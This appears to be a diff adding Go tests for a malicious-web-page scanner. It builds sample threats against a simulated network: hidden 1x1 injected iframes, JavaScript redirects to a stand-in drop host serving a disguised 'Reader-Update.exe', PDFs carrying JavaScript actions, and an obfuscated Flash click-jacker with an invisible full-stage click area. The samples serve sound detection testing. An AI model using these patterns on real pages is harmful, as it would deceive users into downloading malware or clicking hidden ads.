@@ -1,0 +1,209 @@
+package scanner
+
+import (
+	"testing"
+
+	"repro/internal/httpsim"
+	"repro/internal/jsengine"
+	pdfpkg "repro/internal/pdf"
+	"repro/internal/swf"
+)
+
+func TestStaticOnlyVisibleMarkupInjection(t *testing.T) {
+	// Static mode cannot execute document.write, but when the iframe
+	// markup is visible inside the string literal the static path still
+	// reads its geometry.
+	h := NewHeuristic()
+	h.Sandbox = false
+	page := `<script>document.write('<iframe src="http://x.example/t" width="1" height="1"></iframe>');</script>`
+	f := h.ScanPage("http://s.example/", "text/html", []byte(page))
+	if len(f.HiddenIframes) != 1 || !f.HiddenIframes[0].Injected {
+		t.Fatalf("static visible-literal injection missed: %+v", f)
+	}
+	// A visible (large) iframe in the literal must not be flagged.
+	page2 := `<script>document.write('<iframe src="http://x.example/w" width="600" height="400"></iframe>');</script>`
+	f2 := h.ScanPage("http://s.example/", "text/html", []byte(page2))
+	if len(f2.HiddenIframes) != 0 {
+		t.Fatalf("visible literal iframe flagged: %+v", f2)
+	}
+}
+
+func TestStaticIframeStringHiddenHelper(t *testing.T) {
+	if why, ok := staticIframeStringHidden(`x = '<iframe width="1" height="1" src="a">'`); !ok || why != "tiny" {
+		t.Fatalf("helper = %q, %v", why, ok)
+	}
+	if _, ok := staticIframeStringHidden(`no iframe here`); ok {
+		t.Fatal("helper matched without iframe")
+	}
+	if _, ok := staticIframeStringHidden(`<iframe width="500" height="300">`); ok {
+		t.Fatal("helper flagged visible iframe")
+	}
+}
+
+func TestResolveOnVariants(t *testing.T) {
+	cases := []struct{ base, ref, want string }{
+		{"http://a.example/dir/page", "http://b.example/x", "http://b.example/x"},
+		{"http://a.example/dir/page", "//cdn.example/lib.js", "http://cdn.example/lib.js"},
+		{"http://a.example/dir/page", "/abs.js", "http://a.example/abs.js"},
+		{"http://a.example/dir/page", "rel.js", "http://a.example/dir/rel.js"},
+		{"http://a.example", "rel.js", "http://a.example/rel.js"},
+		{":::bad", "rel.js", "rel.js"},
+	}
+	for _, tc := range cases {
+		if got := resolveOn(tc.base, tc.ref); got != tc.want {
+			t.Errorf("resolveOn(%q, %q) = %q, want %q", tc.base, tc.ref, got, tc.want)
+		}
+	}
+}
+
+func TestScanJavaScriptContentType(t *testing.T) {
+	h := NewHeuristic()
+	payload := `window.location.href = "http://elsewhere.example/drop?downloadAs=x.exe";`
+	f := h.ScanPage("http://cdn.example/m.js", "application/javascript", []byte(payload))
+	if len(f.Redirections) != 1 || !f.DeceptiveDownload {
+		t.Fatalf("js content-type scan findings = %+v", f)
+	}
+}
+
+func TestScanFlashBadBytes(t *testing.T) {
+	h := NewHeuristic()
+	f := h.ScanPage("http://cdn.example/x.swf", "application/x-shockwave-flash", []byte("not a movie"))
+	if f.FlashSuspicion != nil || f.Malicious() {
+		t.Fatalf("broken flash flagged: %+v", f)
+	}
+}
+
+func TestObjectTagFlashFetch(t *testing.T) {
+	in := httpsim.NewInternet()
+	in.Register("cdn.example", func(req *httpsim.Request) *httpsim.Response {
+		return httpsim.Flash(buildMaliciousMovie())
+	})
+	h := NewHeuristic()
+	h.ResourceFetcher = in
+	page := `<object data="http://cdn.example/ad.swf" type="application/x-shockwave-flash"></object>`
+	f := h.ScanPage("http://host.example/", "text/html", []byte(page))
+	if f.FlashSuspicion == nil || !f.FlashSuspicion.Malicious() {
+		t.Fatalf("object-tag flash not inspected: %+v", f)
+	}
+}
+
+func TestResourceBudgetRespected(t *testing.T) {
+	in := httpsim.NewInternet()
+	fetches := 0
+	in.Register("cdn.example", func(req *httpsim.Request) *httpsim.Response {
+		fetches++
+		return httpsim.Script("var ok = 1;")
+	})
+	h := NewHeuristic()
+	h.ResourceFetcher = in
+	h.MaxResources = 3
+	page := ""
+	for i := 0; i < 10; i++ {
+		page += `<script src="http://cdn.example/s` + string(rune('0'+i)) + `.js"></script>`
+	}
+	h.ScanPage("http://host.example/", "text/html", []byte(page))
+	if fetches > 3 {
+		t.Fatalf("fetched %d resources, budget 3", fetches)
+	}
+}
+
+func TestDeadResourceTolerated(t *testing.T) {
+	in := httpsim.NewInternet() // cdn host not registered -> ErrNoHost
+	h := NewHeuristic()
+	h.ResourceFetcher = in
+	page := `<script src="http://gone.example/x.js"></script><p>ok</p>`
+	f := h.ScanPage("http://host.example/", "text/html", []byte(page))
+	if f.Malicious() {
+		t.Fatalf("dead resource produced findings: %+v", f)
+	}
+}
+
+func TestFingerprintingAloneNotMalicious(t *testing.T) {
+	h := NewHeuristic()
+	page := `<script>var ua = navigator.userAgent; var w = screen.width;</script>`
+	f := h.ScanPage("http://analytics-user.example/", "text/html", []byte(page))
+	if !f.Fingerprinting {
+		t.Fatal("fingerprinting not recorded")
+	}
+	if f.Malicious() {
+		t.Fatal("fingerprinting alone flagged malicious")
+	}
+}
+
+// buildMaliciousMovie assembles a minimal AdFlash-style click-jacker.
+func buildMaliciousMovie() []byte {
+	sb := swf.NewScript().Obfuscate(0x3c)
+	handler := sb.NewSegment()
+	sb.AllowDomain(0, "*")
+	sb.Listen(0, "mouseUp", handler)
+	sb.ExternalCall(handler, "AdFlash.onClick")
+	return swf.NewBuilder(640, 480).
+		AddClickArea(swf.ClickArea{X: 0, Y: 0, W: 640, H: 480, Alpha: 0}).
+		Script(sb).
+		Encode()
+}
+
+var _ = jsengine.Escape // keep import shape stable
+
+func TestPDFContentTypeScan(t *testing.T) {
+	h := NewHeuristic()
+	doc := pdfExploit(`window.location.href = "http://drop.example/c?downloadAs=Reader-Update.exe";`)
+	f := h.ScanPage("http://drop.example/doc/invoice.pdf", "application/pdf", doc)
+	if f.PDFFindings == nil || !f.PDFFindings.Malicious() {
+		t.Fatalf("exploit PDF not flagged: %+v", f)
+	}
+	// The embedded JS trace feeds the ordinary finding fields.
+	if !f.DeceptiveDownload {
+		t.Fatalf("embedded JS download not traced: %+v", f)
+	}
+	if !f.Malicious() {
+		t.Fatal("overall verdict must be malicious")
+	}
+}
+
+func TestBenignPDFClean(t *testing.T) {
+	h := NewHeuristic()
+	f := h.ScanPage("http://docs.example/brochure.pdf", "application/pdf", pdfBenign())
+	if f.Malicious() {
+		t.Fatalf("benign PDF flagged: %+v", f)
+	}
+}
+
+func TestLinkedPDFFetched(t *testing.T) {
+	in := httpsim.NewInternet()
+	in.Register("drop.example", func(req *httpsim.Request) *httpsim.Response {
+		return httpsim.Binary("application/pdf",
+			pdfExploit(`window.location.href = "http://drop.example/x.exe";`))
+	})
+	h := NewHeuristic()
+	h.ResourceFetcher = in
+	page := `<html><body><a href="http://drop.example/doc/invoice.pdf?id=1">View invoice (PDF)</a></body></html>`
+	f := h.ScanPage("http://lure.example/", "text/html", []byte(page))
+	if f.PDFFindings == nil || !f.PDFFindings.Malicious() {
+		t.Fatalf("linked exploit PDF missed: %+v", f)
+	}
+}
+
+func TestNonPDFLinkNotFetched(t *testing.T) {
+	in := httpsim.NewInternet()
+	fetched := 0
+	in.Register("other.example", func(req *httpsim.Request) *httpsim.Response {
+		fetched++
+		return httpsim.HTML("x")
+	})
+	h := NewHeuristic()
+	h.ResourceFetcher = in
+	page := `<a href="http://other.example/page.html">link</a>`
+	h.ScanPage("http://s.example/", "text/html", []byte(page))
+	if fetched != 0 {
+		t.Fatalf("non-PDF link fetched %d times", fetched)
+	}
+}
+
+func pdfExploit(js string) []byte {
+	return pdfpkg.NewBuilder().AddJavaScriptAction(js).BreakXref().Encode()
+}
+
+func pdfBenign() []byte {
+	return pdfpkg.NewBuilder().Encode()
+}
